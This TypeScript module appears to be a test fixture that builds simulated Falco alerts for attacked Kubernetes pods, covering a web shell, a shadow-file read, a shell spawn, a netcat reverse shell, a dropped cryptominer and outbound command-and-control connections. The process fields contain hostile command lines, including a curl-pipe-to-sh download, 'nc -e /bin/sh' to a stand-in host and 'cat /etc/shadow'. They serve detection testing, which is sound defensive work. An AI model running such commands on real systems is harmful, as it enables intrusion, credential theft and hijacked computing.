import type { Pod } from './cluster.ts';
import { type FalcoEvent, type Process, processEvent } from './falco-events.ts';

const commandServer = '203.0.113.7';
const minerPool = '198.51.100.23';

/** Who runs in a pod that is attacked, and where each calls. */
const asWebServer = { user: 'www-data', uid: 33 };
const asRoot = { user: 'root', uid: 0 };
const webShell: Process = {
	...asWebServer,
	name: 'sh',
	line: `sh -c id; curl -s http://${commandServer}/x.sh | sh`,
	parent: 'nginx',
};
const reader: Process = { ...asRoot, name: 'cat', line: 'cat /etc/shadow', parent: 'sh' };
const shell: Process = { ...asRoot, name: 'bash', line: 'bash -i', parent: 'runc' };
const netcat: Process = {
	...asRoot,
	name: 'nc',
	line: `nc -e /bin/sh ${commandServer} 4444`,
	parent: 'bash',
};
const miner: Process = {
	...asRoot,
	name: 'kworkerds',
	line: `kworkerds -o stratum+tcp://${minerPool}:3333`,
	parent: 'bash',
};

/** Where it happens: in a pod, or on the bare host. */
type Place = { readonly node: string; readonly pod?: Pod };

export function webShellIn(place: Place): FalcoEvent {
	return processEvent(place, webShell, {
		rule: 'Web Server Spawned Shell',
		priority: 'Critical',
		text: 'Web server spawned shell | web_server=nginx',
		tags: ['T1505.003', 'container', 'mitre_persistence', 'process'],
	});
}

export function shadowReadIn(place: Place): FalcoEvent {
	return processEvent(place, reader, {
		rule: 'Read sensitive file untrusted',
		priority: 'Warning',
		text: 'Sensitive file opened for reading by non-trusted program | file=/etc/shadow',
		tags: ['T1555', 'container', 'filesystem', 'mitre_credential_access'],
		fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow' },
	});
}

export function shellIn(place: Place): FalcoEvent {
	return processEvent(place, shell, {
		rule: 'Terminal shell in container',
		priority: 'Critical',
		text: 'A shell was spawned in a container with an attached terminal',
		tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
	});
}

export function netcatIn(place: Place): FalcoEvent {
	return processEvent(place, netcat, {
		rule: 'Launch Suspicious Network Tool in Container',
		priority: 'Warning',
		text: 'Network tool launched in container',
		tags: ['T1595', 'container', 'mitre_execution', 'network', 'process'],
	});
}

/** A binary that its image never had. */
export function droppedIn(place: Place): FalcoEvent {
	return processEvent(place, miner, {
		rule: 'Drop and execute new binary in container',
		priority: 'Critical',
		text: 'Executing binary not part of base image | proc_exe=/tmp/.x/kworkerds',
		tags: ['PCI_DSS_11.5.1', 'TA0003', 'container', 'mitre_persistence', 'process'],
		fields: { 'proc.exe_ino.ctime_duration_proc_start': 18_446_744_073_670_260_079n },
	});
}

/** A connection from this port to whoever gives the orders. */
export function callHomeFrom(place: Place, port: number): FalcoEvent {
	return outbound(place, netcat, port, `${commandServer}:4444`);
}

/** A connection from this port to where the miner gets its work. */
export function poolCallFrom(place: Place, port: number): FalcoEvent {
	return outbound(place, miner, port, `${minerPool}:3333`);
}

function outbound(place: Place, process: Process, port: number, to: string): FalcoEvent {
	const [ip = '', remotePort] = to.split(':');
	const connection = `${place.pod?.address ?? '10.0.12.12'}:${port}->${to}`;
	return processEvent(place, process, {
		rule: 'Outbound Connection to C2 Servers',
		priority: 'Critical',
		text: `Outbound connection to C2 server | ip=${ip} connection=${connection}`,
		tags: ['T1071', 'container', 'mitre_command_and_control', 'network'],
		fields: {
			'evt.type': 'connect',
			'fd.name': connection,
			'fd.rip': ip,
			'fd.rport': Number(remotePort),
			'fd.sip': ip,
		},
	});
}
